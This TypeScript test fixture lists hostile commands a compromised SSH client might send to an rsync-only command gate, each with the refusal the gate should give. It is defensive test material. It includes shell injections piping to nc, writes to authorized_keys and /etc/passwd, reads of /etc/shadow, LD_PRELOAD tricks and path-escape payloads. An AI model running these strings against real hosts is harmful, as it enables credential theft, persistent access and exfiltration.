// The attack corpus: command strings a hostile (or compromised) client can put
// in SSH_ORIGINAL_COMMAND, each with the refusal code and the reason the gate
// must give. Generated parts (every always-refused option in every spelling
// and position) are built from the option table, so a new refused option is
// attacked automatically.
import { LONG_OPTIONS, SHORT_OPTIONS, type RsyncOption } from '../../src/rsync/options.js';

export interface Attack {
  name: string;
  command: string;
  /** The log record's machine-readable code. */
  code: string;
  /** Must match the reason (on stderr and in the log record). */
  reason: RegExp;
  /** Policy name in the lab (default "lab": root-confined, read-write, delete allowed). */
  policy?: string;
}

/** What a stock rsync 3.x client sends for `rsync -av host:data/ dst/`. */
export const PULL = 'rsync --server --sender -vlogDtprxze.iLsfxCIvu';
/** ... and for `rsync -av src/ host:data/`. */
export const PUSH = 'rsync --server -vlogDtprxze.iLsfxCIvu';

const SHELL = 'shell-syntax';
const a = (name: string, command: string, code: string, reason: RegExp, policy?: string): Attack =>
  policy ? { name, command, code, reason, policy } : { name, command, code, reason };

const operator = /is a shell operator/;
const expansion = /starts a shell expansion/;

export const SHELL_INJECTION: Attack[] = [
  a('; chains a command', `${PULL} . data/; id`, SHELL, operator),
  a('; without spaces', `${PULL} . data/;id`, SHELL, operator),
  a('| pipes', `${PULL} . data/ | nc 192.0.2.1 9`, SHELL, operator),
  a('& backgrounds', `${PULL} . data/ & id`, SHELL, operator),
  a('&& chains', `${PULL} . data/ && id`, SHELL, operator),
  a('|| chains', `${PULL} . data/ || id`, SHELL, operator),
  a('> redirects', `${PULL} . data/ > /root/.ssh/authorized_keys`, SHELL, operator),
  a('>> appends', `${PULL} . data/ >> /etc/passwd`, SHELL, operator),
  a('< reads', `${PULL} . data/ < /etc/shadow`, SHELL, operator),
  a('2> redirects stderr', `${PULL} . data/ 2>/tmp/x`, SHELL, operator),
  a('( ) subshell', `(id) ${PULL} . data/`, SHELL, operator),
  a('backquotes', `${PULL} . \`id\``, SHELL, /backquote is command substitution/),
  a('backquotes inside double quotes', `${PULL} . "\`id\`"`, SHELL, /backquote is command substitution/),
  a('$( ) substitution', `${PULL} . $(id)`, SHELL, expansion),
  a('$( ) inside a word', `${PULL} . data/$(id)`, SHELL, expansion),
  a('$VAR', `${PULL} . $HOME`, SHELL, expansion),
  a('${VAR}', `${PULL} . \${HOME}/x`, SHELL, expansion),
  a('$VAR inside double quotes', `${PULL} . "$HOME"`, SHELL, /inside double quotes is a shell expansion/),
  a('$( ) inside double quotes', `${PULL} . "$(id)"`, SHELL, /inside double quotes is a shell expansion/),
  a('$((arithmetic))', `${PULL} . $((1+1))`, SHELL, expansion),
  a('newline', `${PULL} . data/\nid`, SHELL, /control characters/),
  a('CR', `${PULL} . data/\rid`, SHELL, /control characters/),
  a('tab as a separator', `${PULL}\t. data/`, SHELL, /control characters/),
  a('ESC (terminal escape)', `${PULL} . data/\u001b[2J`, SHELL, /control characters/),
  a('DEL', `${PULL} . data/\u007f`, SHELL, /control characters/),
  a('comment hides the rest', `${PULL} . data/ #--rsh=sh`, SHELL, /starts a shell comment/),
  a('unbalanced single quote', `${PULL} . 'data/`, SHELL, /unbalanced single quote/),
  a('unbalanced double quote', `${PULL} . "data/`, SHELL, /unbalanced double quote/),
  a('trailing backslash', `${PULL} . data/\\`, SHELL, /trailing backslash/),
  a('tilde expansion', `${PULL} . ~root/.ssh/`, SHELL, /tilde expansion/),
  a('non-breaking space between words', `${PULL} .\u00a0data/`, SHELL, /invisible or look-alike/),
  a('non-breaking space after rsync', `rsync\u00a0--server --sender -v . data/`, SHELL, /invisible or look-alike/),
  a('zero-width space', `${PULL} . da\u200bta/`, SHELL, /invisible or look-alike/),
  a('right-to-left override', `${PULL} . \u202edata/`, SHELL, /invisible or look-alike/),
  a('ideographic space', `${PULL}\u3000. data/`, SHELL, /invisible or look-alike/),
  a('byte-order mark', `\ufeff${PULL} . data/`, SHELL, /invisible or look-alike/),
  a('U+FFFD (what invalid UTF-8 decodes to)', `${PULL} . data/\ufffd`, SHELL, /invisible or look-alike/),
  a('empty command', '', SHELL, /the command is empty/),
  a('over 64 KiB', `${PULL} . ${'a'.repeat(66000)}`, SHELL, /longer than 64 KiB/),
];

/** A plausible value for an option in an attack. */
function valueFor(opt: RsyncOption): string {
  if (opt.arg === 'number') return '1';
  if (opt.long === 'rsh' || opt.long === 'rsync-path') return 'sh';
  if (opt.long === 'remote-option') return '--log-file=/tmp/gk-evil.log';
  if (opt.long === 'dparam') return 'pidfile=/tmp/gk-evil.pid';
  if (opt.long === 'debug' || opt.long === 'log-file-format') return 'ALL';
  return '/tmp/gk-evil';
}

/** Every always-refused long option, in both spellings, before ".", after "." and after the paths. */
export function refusedOptionAttacks(): Attack[] {
  const out: Attack[] = [];
  const refused = LONG_OPTIONS.filter((o) => o.risk === 'refused' && o.long !== 'server' && o.long !== 'sender');
  for (const opt of refused) {
    const forms = opt.arg === 'none' ? [opt.name, `${opt.name}=1`] : [`${opt.name}=${valueFor(opt)}`, `${opt.name} ${valueFor(opt)}`];
    for (const form of forms) {
      out.push(a(`${form} before "."`, `${PULL} ${form} . data/`, 'always-refused', new RegExp(`option ${opt.name} is always refused`)));
      out.push(a(`${form} right after "."`, `${PULL} . ${form} data/`, 'syntax', /options after the "\." separator are refused/));
      out.push(a(`${form} after the paths`, `${PULL} . data/ ${form}`, 'syntax', /options after the "\." separator are refused/));
    }
  }
  // Short spellings of refused options, alone and inside clusters.
  for (const opt of SHORT_OPTIONS.filter((o) => o.risk === 'refused')) {
    out.push(a(`-${opt.short} alone`, `${PULL} -${opt.short} . data/`, 'always-refused', new RegExp(`option ${opt.name} is always refused`)));
    out.push(a(`-${opt.short} inside a cluster`, `rsync --server --sender -vlogD${opt.short}tprxze.iLsfxCIvu . data/`, 'always-refused', new RegExp(`option ${opt.name} is always refused`)));
  }
  return out;
}

export const CLUSTERS: Attack[] = [
  a('-e as its own word (remote shell)', `${PULL} -e sh . data/`, 'always-refused', /-e is refused here/),
  a('-e with a command in the cluster', `rsync --server --sender -vlogDtprxze/bin/sh . data/`, 'always-refused', /-e is refused here/),
  a('-e capability string followed by a path', `rsync --server --sender -vlogDtprxze.iLs/bin/sh . data/`, 'always-refused', /-e is refused here/),
  a('-M hides a server option', `${PULL} -M--log-file=/tmp/gk-evil . data/`, 'always-refused', /option -M is always refused/),
  a('-M inside a cluster', `rsync --server --sender -vM--rsh=sh . data/`, 'always-refused', /option -M is always refused/),
  a('-f (filter, takes an argument) hidden in a cluster', `rsync --server --sender -vfe.iLs . data/`, 'unknown-option', /option -f \(in "-vfe\.iLs"\)/),
  a('-T/tmp (temp dir glued to its letter)', `${PULL} -T/tmp . data/`, 'unknown-option', /option -T \(in "-T\/tmp"\)/),
  a('-B=1024 followed by a capability string', `rsync --server --sender -B=1024e.iLsfxCIvu . data/`, 'syntax', /-B takes a number written right after it/),
  a('-B inside a cluster', `rsync --server --sender -vB1024 . data/`, 'syntax', /must stand alone/),
  a('-@ with a non-number', `${PULL} -@-1e.iLs . data/`, 'syntax', /-@ takes a number/),
  a('a second capability string', `${PULL} -e.iLsfxCIvu . data/`, 'syntax', /capability string .* was sent twice/),
  a('-L (follow every symlink) under a confined root', `rsync --server --sender -vlogDtprxzLe.iLsfxCIvu . data/`, 'follow-links-refused', /option -L is refused/),
  a('-k under a confined root', `rsync --server --sender -vlogDtprxzke.iLsfxCIvu . data/`, 'follow-links-refused', /option -k is refused/),
  a('-K on a push under a confined root', `rsync --server -vlogDtprxzKe.iLsfxCIvu . data/`, 'follow-links-refused', /option -K is refused/),
  a('--copy-unsafe-links under a confined root', `${PULL} --copy-unsafe-links . data/`, 'follow-links-refused', /option --copy-unsafe-links is refused/),
  a('--only-write-batch writes a server file', `${PULL} --only-write-batch=batch . data/`, 'option-not-allowed', /option --only-write-batch is refused/),
];

export const DAEMON: Attack[] = [
  a('--daemon under a plain policy', 'rsync --server --daemon .', 'always-refused', /this policy is not a daemon policy/),
  a('--daemon --config (CVE-2019-3463 shape)', 'rsync --server --daemon --config=/tmp/gk-evil.conf .', 'always-refused', /option --config is refused/),
  a('--daemon --config under a daemon policy', 'rsync --server --daemon --config=/tmp/gk-evil.conf .', 'always-refused', /option --config is refused/, 'daemon'),
  a('--daemon --config as two words under a daemon policy', 'rsync --server --daemon --config /tmp/gk-evil.conf .', 'always-refused', /option --config is refused/, 'daemon'),
  a('--daemon --dparam', 'rsync --server --daemon --dparam=pidfile=/tmp/gk-evil .', 'syntax', /exactly "rsync --server --daemon \."/, 'daemon'),
  a('--daemon -M', 'rsync --server --daemon -M--config=/tmp/gk-evil.conf .', 'syntax', /exactly "rsync --server --daemon \."/, 'daemon'),
  a('--daemon with --config after "."', 'rsync --server --daemon . --config=/tmp/gk-evil.conf', 'always-refused', /option --config is refused/, 'daemon'),
  a('--daemon with a path after "."', 'rsync --server --daemon . data/', 'syntax', /exactly "rsync --server --daemon \."/, 'daemon'),
  a('a file transfer under a daemon policy', `${PULL} . data/`, 'daemon-only', /this is a daemon policy/, 'daemon'),
];

export const GRAMMAR: Attack[] = [
  a('--sender twice', 'rsync --server --sender --sender -vlogDtprxze.iLsfxCIvu . data/', 'syntax', /"--sender" may appear only directly after "--server"/),
  a('--sender after an option', 'rsync --server -vlogDtprxze.iLsfxCIvu --sender . data/', 'syntax', /"--sender" may appear only directly after "--server"/),
  a('--sender before --server', 'rsync --sender --server -vlogDtprxze.iLsfxCIvu . data/', 'not-server', /"--server" must be the second word/),
  a('--server twice', 'rsync --server --server --sender -v . data/', 'syntax', /"--server" may appear only as the second word/),
  a('"--" before "." (CVE-2012-2251 shape)', `${PULL} -- --rsh=sh . data/`, 'syntax', /"--" is not allowed before the "\." separator/),
  a('"--" after "." (CVE-2012-2251 shape)', `${PULL} . -- -e sh`, 'syntax', /options after the "\." separator are refused \("--"\)/),
  a('no "." separator', `${PULL} data/`, 'syntax', /"data\/" before the "\." separator is not an option/),
  a('no "." at all', PULL, 'syntax', /the "\." separator between options and paths is missing/),
  a('an empty path', `${PULL} . ''`, 'syntax', /an empty path argument is refused/),
  a('a quoted option after "."', `${PULL} . data/ '--rsh=sh'`, 'syntax', /options after the "\." separator are refused/),
  a('an option value that swallows "."', `${PULL} --timeout . data/`, 'syntax', /option --timeout needs a value/),
  a('a word value for a number option', `${PULL} --timeout=sh . data/`, 'syntax', /takes a number/),
  a('a value on a no-value option', `${PULL} --numeric-ids=sh . data/`, 'syntax', /takes no value/),
];

export const CLIENT_MODE: Attack[] = [
  a('client mode (no --server)', 'rsync -av /etc/ root@192.0.2.1:/x', 'not-server', /"--server" must be the second word/),
  a("client mode with -e 'sh -c …'", "rsync -e 'sh -c id' x y", 'not-server', /"--server" must be the second word/),
  a('client mode --rsh before --server', 'rsync --rsh=sh --server --sender -v . data/', 'not-server', /"--server" must be the second word/),
  a('the words "--server --sender" quoted as one', "rsync '--server --sender' -v . data/", 'not-server', /"--server" must be the second word/),
  a('rsync alone', 'rsync', 'not-server', /"--server" must be the second word/),
];

const notRsync = (program: string) => new RegExp(`only rsync server calls are allowed here, not "${program.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}"`);
export const OTHER_PROGRAMS: Attack[] = [
  a('sh', 'sh', 'not-rsync', notRsync('sh')),
  a('sh -c', "sh -c 'id'", 'not-rsync', notRsync('sh')),
  a('bash -i', 'bash -i', 'not-rsync', notRsync('bash')),
  a('scp -t', 'scp -t /root/.ssh/', 'not-rsync', notRsync('scp')),
  a('scp -f', 'scp -f /etc/shadow', 'not-rsync', notRsync('scp')),
  a('sftp-server', '/usr/lib/openssh/sftp-server', 'not-rsync', notRsync('/usr/lib/openssh/sftp-server')),
  a('internal-sftp', 'internal-sftp', 'not-rsync', notRsync('internal-sftp')),
  a('cat', 'cat /etc/shadow', 'not-rsync', notRsync('cat')),
  a('id', 'id', 'not-rsync', notRsync('id')),
  a('sudo rsync', `sudo ${PULL} . data/`, 'not-rsync', notRsync('sudo')),
  a('env … rsync', `env LD_PRELOAD=/tmp/gk-evil.so ${PULL} . data/`, 'not-rsync', notRsync('env')),
  a('VAR=… rsync', `LD_PRELOAD=/tmp/gk-evil.so ${PULL} . data/`, 'not-rsync', notRsync('LD_PRELOAD=/tmp/gk-evil.so')),
  a('exec rsync', `exec ${PULL} . data/`, 'not-rsync', notRsync('exec')),
  a('nice rsync', `nice ${PULL} . data/`, 'not-rsync', notRsync('nice')),
  a('a relative ./rsync', `./rsync --server --sender -v . data/`, 'not-rsync', notRsync('./rsync')),
  a('a path not ending in /rsync', `/tmp/rsync-evil --server --sender -v . data/`, 'not-rsync', notRsync('/tmp/rsync-evil')),
  a('a path ending in /rsync/', `/tmp/rsync/ --server --sender -v . data/`, 'not-rsync', notRsync('/tmp/rsync/')),
  a('rsync2', `rsync2 --server --sender -v . data/`, 'not-rsync', notRsync('rsync2')),
  a('RSYNC upper case', `RSYNC --server --sender -v . data/`, 'not-rsync', notRsync('RSYNC')),
  a('fullwidth hyphens in --server', 'rsync \uff0d\uff0dserver --sender -v . data/', 'not-server', /"--server" must be the second word/),
  a('Unicode hyphens (U+2010) in --server', 'rsync \u2010\u2010server --sender -v . data/', 'not-server', /"--server" must be the second word/),
  a('a minus sign (U+2212) option before "."', `${PULL} \u2212e sh . data/`, 'syntax', /before the "\." separator is not an option/),
  a('a fullwidth hyphen option before "."', `${PULL} \uff0d\uff0drsh=sh . data/`, 'syntax', /before the "\." separator is not an option/),
];

const unknown = (name: string) => new RegExp(`option ${name} is not one an rsync client sends to a server`);
export const SPELLING: Attack[] = [
  a('abbreviated --dele', `${PULL} --dele . data/`, 'unknown-option', unknown('--dele')),
  a('abbreviated --del', `${PULL} --del . data/`, 'unknown-option', unknown('--del')),
  a('abbreviated --rs=sh', `${PULL} --rs=sh . data/`, 'unknown-option', unknown('--rs')),
  a('abbreviated --rsync-pat', `${PULL} --rsync-pat=sh . data/`, 'unknown-option', unknown('--rsync-pat')),
  a('abbreviated --conf', `${PULL} --conf=/tmp/gk-evil.conf . data/`, 'unknown-option', unknown('--conf')),
  a('abbreviated --log-f', `${PULL} --log-f=/tmp/gk-evil . data/`, 'unknown-option', unknown('--log-f')),
  a('upper-case --DELETE', `${PULL} --DELETE . data/`, 'unknown-option', unknown('--DELETE')),
  a('mixed-case --Rsh', `${PULL} --Rsh=sh . data/`, 'unknown-option', unknown('--Rsh')),
  a('upper-case --CONFIG', `${PULL} --CONFIG=/tmp/gk-evil.conf . data/`, 'unknown-option', unknown('--CONFIG')),
  a('upper-case --Sender', 'rsync --server --Sender -v . data/', 'unknown-option', unknown('--Sender')),
  a('upper-case --SERVER', 'rsync --SERVER --sender -v . data/', 'not-server', /"--server" must be the second word/),
  a('a triple-dash option', `${PULL} ---rsh=sh . data/`, 'unknown-option', unknown('---rsh')),
  a('--filter (client-side rules)', `${PULL} --filter=+_/etc . data/`, 'unknown-option', unknown('--filter')),
];

const outside = /outside the policy root|"\.\." is refused|the wildcard matches/;
export const PATH_ESCAPES: Attack[] = [
  a('.. in a path', `${PULL} . ../outside/secret.txt`, 'path-outside-root', /"\.\." is refused in paths/),
  a('/./../ in a path', `${PULL} . /./../outside/`, 'path-outside-root', /"\.\." is refused in paths/),
  a('.. in the middle', `${PULL} . data/../../outside/`, 'path-outside-root', /"\.\." is refused in paths/),
  a('.. at the end', `${PULL} . data/..`, 'path-outside-root', /"\.\." is refused in paths/),
  a('.. escaped with a backslash', `${PULL} . \\.\\./outside/`, 'path-outside-root', /"\.\." is refused in paths/),
  a('.. in quotes', `${PULL} . '..'/outside/`, 'path-outside-root', /"\.\." is refused in paths/),
  a('a symlink inside root pointing out', `${PULL} . link-out/secret.txt`, 'path-outside-root', /resolves to .*outside\/secret\.txt, outside the policy root/),
  a('a symlink directory with a trailing slash', `${PULL} . link-out/`, 'path-outside-root', /resolves to .*outside, outside the policy root/),
  a('a file symlink pointing out', `${PULL} . secret-link`, 'path-outside-root', /resolves to .*secret\.txt, outside the policy root/),
  a('an absolute path through the symlink', `${PULL} . /link-out/secret.txt`, 'path-outside-root', /resolves to .*outside/),
  a('a glob through the symlink', `${PULL} . link-*/secret.txt`, 'path-outside-root', /the wildcard matches .*link-out\/secret\.txt/),
  a('a ? glob through the symlink', `${PULL} . l?nk-out/*`, 'path-outside-root', /the wildcard matches/),
  a('a bracket glob through the symlink', `${PULL} . [l]ink-out/secret.txt`, 'path-outside-root', /the wildcard matches/),
  a('* at the top of root', `${PULL} . '*'`, 'path-outside-root', /the wildcard matches/),
  a('.* (matches ..)', `${PULL} . '.*'`, 'path-outside-root', /the wildcard matches/),
  a('a glob in the middle of a path', `${PULL} . */secret.txt`, 'path-outside-root', /the wildcard matches/),
  a('a push into the symlink', `${PUSH} . link-out/`, 'path-outside-root', /resolves to .*outside/),
  a('a push to a new name under the symlink', `${PUSH} . link-out/new/file`, 'path-outside-root', /resolves to .*outside/),
  a('--link-dest with ..', `${PUSH} --link-dest=../outside . data/`, 'path-outside-root', /"\.\." is refused in --link-dest/),
  a('--link-dest through the symlink', `${PUSH} --link-dest=/link-out . data/`, 'path-outside-root', outside),
  a('--link-dest as two words', `${PUSH} --link-dest /link-out . data/`, 'path-outside-root', outside),
  a('--copy-dest relative through the symlink', `${PUSH} --copy-dest=link-out . data/`, 'path-outside-root', outside),
  a('--compare-dest with /../', `${PUSH} --compare-dest=/../outside . data/`, 'path-outside-root', /"\.\." is refused in --compare-dest/),
  a('--backup-dir through the symlink', `rsync --server -vlogDtprxzbe.iLsfxCIvu --backup-dir=/link-out/bak . data/`, 'path-outside-root', outside),
  a('--partial-dir through the symlink', `${PUSH} --partial-dir=link-out/p . data/`, 'path-outside-root', outside),
  a('--temp-dir with ..', `${PUSH} --temp-dir=../outside . data/`, 'path-outside-root', /"\.\." is refused in --temp-dir/),
  a('--temp-dir through the symlink', `${PUSH} --temp-dir=/link-out . data/`, 'path-outside-root', outside),
  a('--files-from through the symlink', `${PULL} --files-from=/link-out/list.txt . data/`, 'path-outside-root', outside),
  a('--files-from with ..', `${PULL} --files-from=../outside/list.txt . data/`, 'path-outside-root', /"\.\." is refused in --files-from/),
  // root2, the sibling whose name extends root's: "inside" to a check that forgets the "/" after root.
  a('a symlink to the sibling root2', `${PULL} . twin-link/secret.txt`, 'path-outside-root', /resolves to .*\/root2\/secret\.txt, outside the policy root/),
  a('the sibling root2 with a trailing slash', `${PULL} . /twin-link/`, 'path-outside-root', /resolves to .*\/root2, outside the policy root/),
  a('a glob matching the link to root2', `${PULL} . twin-*/secret.txt`, 'path-outside-root', /the wildcard matches .*twin-link\/secret\.txt, which resolves to .*\/root2\/secret\.txt/),
  a('a push into the sibling root2', `${PUSH} . twin-link/`, 'path-outside-root', /resolves to .*\/root2, outside the policy root/),
  a('a push to a new name in root2', `${PUSH} . twin-link/new/file`, 'path-outside-root', /resolves to .*\/root2, outside the policy root/),
  a('--link-dest into root2', `${PUSH} --link-dest=/twin-link . data/`, 'path-outside-root', /resolves to .*\/root2, outside the policy root/),
  a('--temp-dir into root2, relative', `${PUSH} --temp-dir=twin-link . ./`, 'path-outside-root', /resolves to .*\/root2, outside the policy root/),
  a('--files-from from root2', `${PULL} --files-from=/twin-link/list.txt . data/`, 'path-outside-root', /resolves to .*\/root2\/list\.txt, outside the policy root/),
];

export const SESSION: Attack[] = [
  a('a push to a read-only policy', `${PUSH} . data/`, 'access', /this policy is read-only/, 'readonly'),
  // A push: on a pull the client deletes in its own destination, never the sending server (options.ts).
  a('--delete under a policy without delete', `${PUSH} --delete . data/`, 'delete-refused', /option --delete is refused/, 'writeonly'),
  a('--delete-before on a push under a policy without delete', `${PUSH} --delete-before . data/`, 'delete-refused', /option --delete-before is refused/, 'writeonly'),
  a('--remove-source-files under a policy without delete', `${PULL} --remove-source-files . data/`, 'delete-refused', /option --remove-source-files is refused/, 'readonly'),
  a('"true" when allowTrue is off', 'true', 'not-rsync', /connectivity check "true" is disabled/, 'readonly'),
];

export function allAttacks(): Attack[] {
  return [...SHELL_INJECTION, ...refusedOptionAttacks(), ...CLUSTERS, ...DAEMON, ...GRAMMAR, ...CLIENT_MODE, ...OTHER_PROGRAMS, ...SPELLING, ...PATH_ESCAPES, ...SESSION];
}
